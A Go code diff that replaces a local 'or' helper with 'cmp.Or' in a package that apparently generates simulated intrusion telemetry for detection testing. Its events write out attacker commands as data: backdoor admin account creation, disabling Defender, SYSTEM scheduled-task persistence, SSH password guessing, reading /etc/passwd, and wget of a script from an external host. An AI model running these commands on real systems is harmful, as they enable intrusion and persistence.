@@ -1,6 +1,7 @@
 package record
 
 import (
+	"cmp"
 	"fmt"
 	"net/netip"
 
@@ -25,7 +26,7 @@ func exchangeSpray(h *Host, p Params) []event.Event {
 func mailRobot(h *Host, p Params) []event.Event {
 	var out []event.Event
 	for i := range 8 {
-		user := people[i] + "@" + or(h.c.Domain, "example.internal")
+		user := people[i] + "@" + cmp.Or(h.c.Domain, "example.internal")
 		out = append(out, h.Web(Request{From: p.From, Method: "POST", Path: "/ews/exchange.asmx", User: user, Agent: "PHP/7.4 Curlc4", Bytes: 48_000})...)
 		out = append(out, h.MailAccess("0000aaaa-11bb-22cc-33dd-444455556666", user, p.External.String())...)
 	}
@@ -42,12 +43,12 @@ func stagedFiles(h *Host, p Params) []event.Event {
 }
 
 func adminLogon(h *Host, p Params) []event.Event {
-	u := or(p.User, "administrator")
+	u := cmp.Or(p.User, "administrator")
 	return all(h.RemoteDesktop(u, p.From, true), h.PasswordReset("svc-backup", u))
 }
 
 func accountCreated(h *Host, p Params) []event.Event {
-	u := or(p.User, "administrator")
+	u := cmp.Or(p.User, "administrator")
 	return all(
 		h.run(u, "net.exe", "user support2 Marker-0000 /add", "High"),
 		h.run(u, "net.exe", "localgroup Administrators support2 /add", "High"),
@@ -56,7 +57,7 @@ func accountCreated(h *Host, p Params) []event.Event {
 }
 
 func defenderOff(h *Host, p Params) []event.Event {
-	u := or(p.User, "administrator")
+	u := cmp.Or(p.User, "administrator")
 	return all(
 		h.Process(Process{Image: shell, CommandLine: "powershell Set-MpPreference -DisableRealtimeMonitoring $true", User: u, Parent: cmd, Integrity: "High"}),
 		h.Script("Set-MpPreference -DisableRealtimeMonitoring $true", u),
@@ -65,7 +66,7 @@ func defenderOff(h *Host, p Params) []event.Event {
 }
 
 func taskCreated(h *Host, p Params) []event.Event {
-	u := or(p.User, "administrator")
+	u := cmp.Or(p.User, "administrator")
 	return all(
 		h.run(u, "schtasks.exe", `/create /tn Updater /tr C:\ProgramData\conhost.exe /sc onlogon /ru SYSTEM`, "High"),
 		h.Task("Updater", conhost, u),
@@ -73,7 +74,7 @@ func taskCreated(h *Host, p Params) []event.Event {
 }
 
 func shareCollect(h *Host, p Params) []event.Event {
-	u := or(p.User, "administrator")
+	u := cmp.Or(p.User, "administrator")
 	return all(h.Logon(Logon{User: u, Type: 3, From: p.From, NTLM: true, Admin: true}), h.Share(u, "C$", p.From, `Users\Public\plan.docx`, `inetpub\web.config`))
 }
 
@@ -87,11 +88,11 @@ func linuxGuessing(h *Host, p Params) []event.Event {
 		at := netip.AddrPortFrom(p.From.Addr(), p.From.Port()+uint16(i))
 		out = append(out, h.SSHLogin([]string{"root", "admin", "oracle", "test"}[i%4], at, false, i%4 == 0)...)
 	}
-	return append(out, h.SSHLogin(or(p.User, "root"), p.From, true, true)...)
+	return append(out, h.SSHLogin(cmp.Or(p.User, "root"), p.From, true, true)...)
 }
 
 func linuxShell(h *Host, p Params) []event.Event {
-	u := or(p.User, "www-data")
+	u := cmp.Or(p.User, "www-data")
 	return all(
 		h.Exec(u, "/bin/sh", "-c", "id; uname -a"), h.Exec(u, "/usr/bin/id"), h.Exec(u, "/usr/bin/whoami"), h.Exec(u, "/usr/bin/uname", "-a"),
 		h.Exec(u, "/usr/bin/cat", "/etc/passwd"),
@@ -99,7 +100,7 @@ func linuxShell(h *Host, p Params) []event.Event {
 }
 
 func linuxDownload(h *Host, p Params) []event.Event {
-	u := or(p.User, "www-data")
+	u := cmp.Or(p.User, "www-data")
 	return all(
 		h.Exec(u, "/usr/bin/wget", "http://"+p.External.String()+"/marker.sh", "-O", "/tmp/marker.sh"), h.Exec(u, "/usr/bin/chmod", "777", "/tmp/marker.sh"),
 		h.Exec(u, "/usr/bin/rm", "-f", "/tmp/marker.sh"),
@@ -107,12 +108,12 @@ func linuxDownload(h *Host, p Params) []event.Event {
 }
 
 func linuxCron(h *Host, p Params) []event.Event {
-	u := or(p.User, "root")
+	u := cmp.Or(p.User, "root")
 	return all(h.Exec(u, "/usr/bin/crontab", "-"), h.Auth("crontab", "("+u+") REPLACE ("+u+")", u), h.Syslog("cron", "("+u+") RELOAD (crontabs/"+u+")"))
 }
 
 func linuxAccount(h *Host, p Params) []event.Event {
-	u := or(p.User, "root")
+	u := cmp.Or(p.User, "root")
 	return all(
 		h.Exec(u, "/usr/sbin/useradd", "-m", "-G", "sudo", "support2"),
 		h.Auth("useradd", "new user: name=support2, UID=1003, GID=1003, home=/home/support2, shell=/bin/sh, from=none", u),
